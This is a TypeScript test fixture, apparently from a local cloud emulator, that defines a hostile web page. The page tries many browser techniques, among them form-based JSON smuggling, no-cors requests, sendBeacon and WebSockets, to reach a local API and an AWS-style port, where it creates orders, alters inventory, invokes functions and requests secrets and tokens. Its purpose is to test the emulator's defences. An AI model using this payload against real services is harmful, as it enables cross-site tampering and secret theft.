/** What a page can find out about a local cloud, and where it stands. */
export interface Targets {
  api: string
  aws: string
  /** A function that can be invoked by name. */
  functionName: string
}

/**
 * A page whose `attack` tries every way that a browser has to reach the two ports, and returns what it could read. What it
 * steers shows in the cloud itself: invocations, executions, and the table Evil.
 */
export const HOSTILE_PAGE = `<!doctype html><title>page</title><script>
const JSON_TYPE = { 'content-type': 'application/json' }
const ORDER = JSON.stringify({ sku: 'SKU-001', quantity: 1, customerId: 'c', paymentMethod: 'tok_visa' })
const STOCK = JSON.stringify({ onHand: 9, unitPrice: { amount: 1, currency: 'USD' } })
const SIGNED = { authorization: 'AWS4-HMAC-SHA256 Credential=evil/20260101/us-east-1/x/aws4_request, SignedHeaders=host, Signature=0' }
const TABLE = { TableName: 'Evil', BillingMode: 'PAY_PER_REQUEST', KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }],
  AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }] }

async function attack({ api, aws, functionName }) {
  const read = []
  const ask = async (url, init = {}) => {
    const response = await fetch(url, { method: init.body === undefined ? 'GET' : 'POST', ...init })
    if (response.ok) {
      read.push((init.headers?.['x-amz-target'] ?? new URL(url).pathname) + ': ' + (await response.text()).slice(0, 60))
    }
  }
  const call = (target, input, headers = {}) => ask(aws, {
    headers: { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': target, 'x-amz-date': '20260101T000000Z', ...SIGNED, ...headers },
    body: JSON.stringify(input),
  })
  const blind = (url, body) => fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body })
  const untyped = (text) => new Blob([text])
  const load = (tag, attributes) => new Promise((done) => {
    const element = Object.assign(document.createElement(tag), attributes, { onload: done, onerror: done })
    document.body.append(element)
  })
  const submit = (action, enctype, fields) => new Promise((done) => {
    const name = 'frame' + Math.random()
    const frame = Object.assign(document.createElement('iframe'), { name })
    const form = Object.assign(document.createElement('form'), { action, enctype, method: 'post', target: name })
    for (const [key, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement('input'), { name: key, value }))
    }
    document.body.append(frame, form)
    frame.onload = done
    form.submit()
  })
  const connect = (url) => new Promise((done) => {
    const socket = new WebSocket(url.replace('http', 'ws'))
    Object.assign(socket, { onopen: () => done(read.push('WebSocket ' + url)), onerror: done })
  })
  const listen = (url) => new Promise((done) => {
    const source = new EventSource(url)
    Object.assign(source, { onopen: () => done(read.push('EventSource ' + url)), onerror: () => done(source.close()) })
  })
  const invocations = aws + '/2015-03-31/functions/' + functionName + '/invocations'
  const token = aws + '/.flowforge/issuer/token'
  const tries = [
    ask(api + '/inventory'), ask(api + '/orders'), ask(api + '/health'), ask(api + '/snapshot'),
    ask(api + '/orders', { body: ORDER }),
    ask(api + '/orders', { body: ORDER, headers: JSON_TYPE }),
    ask(api + '/inventory/SKU-EVIL', { method: 'PUT', body: STOCK, headers: { ...JSON_TYPE, 'x-tenant-id': 'demo' } }),
    blind(api + '/orders', ORDER), blind(api + '/orders', untyped(ORDER)), blind(api + '/orders', new URLSearchParams({ a: ORDER })),
    blind(api + '/workflows/order-fulfillment', new FormData()),
    submit(api + '/orders', 'text/plain', { [ORDER.slice(0, -1) + ',"simulate":"']: '"}' }),
    submit(api + '/orders', 'application/x-www-form-urlencoded', { sku: 'SKU-001' }),
    submit(api + '/orders', 'multipart/form-data', { sku: 'SKU-001' }),
    load('img', { src: api + '/orders' }), load('script', { src: api + '/snapshot' }), load('iframe', { src: api + '/orders' }),
    load('link', { rel: 'stylesheet', href: api + '/inventory' }),
    connect(api + '/orders'), listen(api + '/orders'),
    ask(aws), ask(aws + '/2015-03-31/functions/'), ask(aws + '/.flowforge/issuer/.well-known/openid-configuration'),
    call('AWSStepFunctions.ListStateMachines', {}),
    call('AWSStepFunctions.CreateActivity', { name: 'evil' }),
    call('DynamoDB_20120810.ListTables', {}), call('DynamoDB_20120810.CreateTable', TABLE),
    call('AWSEvents.PutEvents', { Entries: [{ Source: 'evil', DetailType: 'evil', Detail: '{}' }] }),
    call('secretsmanager.GetSecretValue', { SecretId: 'key' }), call('secretsmanager.GetSecretValue', { SecretId: 'key' }, { 'x-amz-security-token': 'local' }),
    ask(aws, { body: new URLSearchParams({ Action: 'GetCallerIdentity' }), headers: SIGNED }),
    ask(token, { body: new URLSearchParams({ tenant: 'demo', scope: 'orders:write' }) }),
    ask(invocations, { body: '{}', headers: JSON_TYPE }), ask(invocations, { body: untyped('{}') }),
    blind(invocations, '{}'), blind(invocations, untyped('{}')), blind(token, new URLSearchParams({ tenant: 'demo' })),
    submit(invocations, 'text/plain', { '{"a":"': '"}' }), submit(token, 'application/x-www-form-urlencoded', { tenant: 'demo' }),
    load('img', { src: aws + '/2015-03-31/functions/' }), load('script', { src: aws + '/2015-03-31/functions/' }),
    connect(aws), listen(aws + '/2015-03-31/functions/'),
  ]
  navigator.sendBeacon(api + '/orders', ORDER)
  navigator.sendBeacon(invocations, untyped('{}'))
  const patience = new Promise((done) => setTimeout(done, 20_000))
  await Promise.race([Promise.allSettled(tries), patience])
  return read
}
</script><body></body>`
